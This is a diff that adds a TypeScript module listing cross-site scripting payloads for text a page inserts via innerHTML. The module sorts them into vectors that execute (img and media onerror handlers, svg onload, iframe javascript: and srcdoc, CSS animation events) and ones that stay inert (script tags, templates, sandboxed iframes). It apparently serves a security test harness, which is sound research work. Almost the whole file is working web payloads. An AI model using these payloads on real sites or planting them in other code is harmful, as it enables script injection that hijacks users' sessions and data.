@@ -1,0 +1,48 @@
+import type { Code } from './code.ts';
+import { alive, dead, type Vector } from './vector.ts';
+
+/** Ideas for a text that a script of the page sets as `innerHTML`: script elements and shadow roots stay inert there. */
+export const inserted = ({ js, attr, bare }: Code): Vector[] => [
+  ...alive([
+    `Anna<img src=x onerror=${bare}>`,
+    `<img src onerror=${bare}>`,
+    `<img srcset=x onerror=${bare}>`,
+    `<p><b><img src=x onerror="${attr}"></p>`,
+    `</div></section><img src=x onerror=${bare}>`,
+    `<picture><source srcset=x><img onerror=${bare}></picture>`,
+    `<audio src=x onerror=${bare}></audio>`,
+    `<video src=x onerror=${bare}></video>`,
+    `<video><track default src=x onerror=${bare}></video>`,
+    `<link rel=stylesheet href=/static/style.css onload=${bare}>`,
+    `<link rel=stylesheet href=/nothing.css onerror=${bare}>`,
+    `<iframe onload=${bare}></iframe>`,
+    `<iframe src="javascript:parent.${attr}"></iframe>`,
+    `<iframe srcdoc="&lt;img src=x onerror=${bare.replaceAll('&', '&amp;')}>"></iframe>`,
+    `<iframe srcdoc="&lt;script>parent.${attr}&lt;/script>"></iframe>`,
+    `<object data=/nothing onerror=${bare}></object>`,
+    `<input type=image src=x onerror=${bare}>`,
+    `<svg><image href=x onerror=${bare} /></svg>`,
+    `<svg><svg onload=${bare}></svg></svg>`,
+    `<math><mtext><img src=x onerror=${bare}></mtext></math>`,
+    `<select><img src=x onerror=${bare}></select>`,
+    `<b style="animation:inserted" onanimationstart=${bare}>x</b><style>@keyframes inserted{}</style>`,
+    `<style onload=${bare}></style>`,
+    `<script></script><img src=x onerror=${bare}>`,
+  ]),
+  ...dead([
+    'Anna',
+    `<b>${js}</b>`,
+    `<script>${js}</script>`,
+    `<svg><script>${js.replaceAll('"', '&quot;')}</script></svg>`,
+    `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`,
+    `<body onload=${bare}>`,
+    `<div><template shadowrootmode=open><img src=x onerror=${bare}></template></div>`,
+    `<template><img src=x onerror=${bare}></template>`,
+    `<textarea><img src=x onerror=${bare}></textarea>`,
+    `<!-- <img src=x onerror=${bare}> -->`,
+    `&lt;img src=x onerror=${bare}>`,
+    `<iframe sandbox srcdoc="&lt;script>${attr}&lt;/script>"></iframe>`,
+    `<iframe sandbox=allow-scripts srcdoc="&lt;script>parent.${attr}&lt;/script>"></iframe>`,
+    `<td onload=${bare}>x</td>`,
+  ]),
+];
